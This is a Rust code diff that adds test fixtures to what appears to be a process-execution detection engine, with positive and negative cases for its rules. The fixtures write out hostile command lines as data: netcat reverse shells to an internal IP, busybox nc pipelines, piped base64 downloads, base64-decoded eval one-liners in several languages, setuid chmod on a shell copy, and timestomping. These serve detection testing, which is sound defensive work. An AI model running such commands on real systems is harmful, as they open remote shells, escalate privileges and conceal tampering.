@@ -107,6 +107,22 @@ fn piped(mut e: ExecEvent, writer: Option<&[&str]>, reader: Option<&[&str]>) -> 
     e
 }
 
+/// `e` running a renamed copy of the image program `of` (the baseline's digests say so).
+fn copy_of(mut e: ExecEvent, of: &str) -> ExecEvent {
+    e.binary.copy_of = Some(of.into());
+    e.binary.verdict = Some(Provenance::Added);
+    e
+}
+
+/// `e` whose stdin writer (set by [`piped`]) runs `exe`, a renamed copy of `of`.
+fn writer_copy(mut e: ExecEvent, exe: &str, of: &str) -> ExecEvent {
+    if let Some(w) = e.stdin_writer.as_mut() {
+        w.exe = Some(exe.into());
+        w.copy_of = Some(of.into());
+    }
+    e
+}
+
 fn script_at(e: ExecEvent, path: &str) -> ExecEvent {
     let mut e = with_script(e, "shell", false);
     if let Some(s) = e.script.as_mut() {
@@ -238,6 +254,27 @@ fn positives() -> Vec<(&'static str, ExecEvent)> {
         ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/mawk", &["awk", "BEGIN {system(\"/bin/sh\")}"])),
         ("shell_escape_from_program", parent(ev("/bin/bash", &["bash"]), "/usr/bin/vim.basic", &["vim", "-c", ":!/bin/bash"])),
         ("shell_escape_from_program", parent(ev("/bin/sh", &["sh", "-c", "/bin/sh"]), "/usr/bin/perl", &["/usr/bin/perl", "/usr/bin/cpan"])),
+        // Whatever the tool was called: busybox applets, renamed copies of image programs.
+        ("netcat_executed", copy_of(ev("/tmp/.x", &["/tmp/.x", "10.0.0.9", "4444"]), "nc.openbsd")),
+        ("netcat_executes_program", copy_of(ev("/tmp/nc", &["nc", "10.0.0.9", "4444", "-e", "/bin/sh"]), "busybox")),
+        ("reverse_shell_netcat_pipeline", copy_of(piped(ev("/tmp/.x", &["/tmp/.x", "10.0.0.9", "4444"]), Some(&["sh", "-i"]), None), "nc.openbsd")),
+        ("reverse_shell_netcat_pipeline", piped(ev("/usr/bin/dash", &["sh", "-i"]), Some(&["cat", "/tmp/f"]), Some(&["busybox", "nc", "10.0.0.9", "4444"]))),
+        ("piped_encoded_download", writer_copy(piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["c", "-s", "http://x/p"]), None), "/var/tmp/c", "curl")),
+        ("piped_encoded_download", piped(ev("/bin/busybox", &["busybox", "base64", "-d"]), Some(&["busybox", "wget", "-qO-", "http://x/p"]), None)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/dash", &["sh"]), Some(&["busybox", "base64", "-d"]), None)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/bash", &["bash"]), Some(&["python3", "-c", "import base64;print(base64.b64decode('aWQ=').decode())"]), None)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "print decode_base64('aWQ=')"]), None, Some(&["sh"]))),
+        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,os;os.system(base64.b64decode('aWQ=').decode())"])),
+        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,subprocess;subprocess.run(base64.b64decode('aWQ='),shell=True)"])),
+        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "eval(decode_base64('cHJpbnQgMTs='))"])),
+        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "system(decode_base64('aWQ='))"])),
+        ("base64_script_executed", ev("/usr/bin/ruby", &["ruby", "-e", "require 'base64';eval(Base64.decode64('cCAx'))"])),
+        ("base64_script_executed", ev("/usr/bin/node", &["node", "-e", "require('child_process').execSync(Buffer.from('aWQ=','base64').toString())"])),
+        ("base64_script_executed", ev("/usr/bin/php", &["php", "-r", "eval(base64_decode('ZWNobyAxOw=='));"])),
+        ("setuid_bit_set", ev("/bin/busybox", &["busybox", "chmod", "u+s", "/tmp/sh"])),
+        ("setuid_bit_set", ev("/bin/busybox", &["chmod", "4755", "/tmp/sh"])),
+        ("timestomp", ev("/bin/busybox", &["touch", "-r", "/bin/ls", "/tmp/x"])),
+        ("shell_escape_from_program", parent(ev("/bin/busybox", &["sh", "-c", "id"]), "/bin/busybox", &["busybox", "awk", "BEGIN {system(\"id\")}"])),
         ("malicious_url_observed", {
             let mut e = ev("/usr/bin/curl", &["curl", "http://203.0.113.66/payload.sh"]);
             e.indicators = vec!["http://203.0.113.66/payload.sh".into()];
@@ -340,6 +377,18 @@ fn negatives() -> Vec<(&'static str, ExecEvent)> {
         ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz"])),
         ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
         ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo aWQK | base64 -d | sha256sum"])),
+        // An entrypoint decoding its configuration with a one-liner into a file, or into jq.
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/jq", &["jq", "."]), Some(&["python3", "-c", "import base64,sys;print(base64.b64decode(sys.argv[1]).decode())"]), None)),
+        ("piped_encoded_code_execution", piped(ev("/usr/bin/python3", &["python3", "-c", "import base64;print(base64.b64decode('e30='))"]), None, Some(&["tee", "/app/c.json"]))),
+        // A package install piping curl to gpg, a renamed copy of something harmless.
+        ("piped_encoded_download", piped(ev("/usr/bin/gpg", &["gpg", "--dearmor"]), Some(&["curl", "-fsSL", "https://x/key.asc"]), None)),
+        ("piped_encoded_download", writer_copy(piped(ev("/usr/bin/base64", &["base64", "-d"]), Some(&["c", "x"]), None), "/var/tmp/c", "cat")),
+        ("netcat_executed", copy_of(ev("/tmp/.x", &["/tmp/.x"]), "true")),
+        ("netcat_executed", ev("/bin/busybox", &["busybox", "wget", "http://x"])),
+        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64,subprocess;print(base64.b64encode(subprocess.run(['id'],capture_output=True).stdout))"])),
+        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-MMIME::Base64", "-e", "print encode_base64('x')"])),
+        ("base64_script_executed", ev("/usr/bin/node", &["node", "-e", "console.log(Buffer.from('x').toString('base64'))"])),
+        ("base64_script_executed", ev("/usr/bin/perl", &["perl", "-e", "system('id')"])),
         ("added_binary_executed", verdict(ev("/usr/bin/ls", &["ls"]), Provenance::Builtin)),
         ("added_binary_executed", ev("/usr/bin/ls", &["ls"])),
         ("added_binary_executed", malicious(verdict(ev("/tmp/kx", &["kx"]), Provenance::Added))),
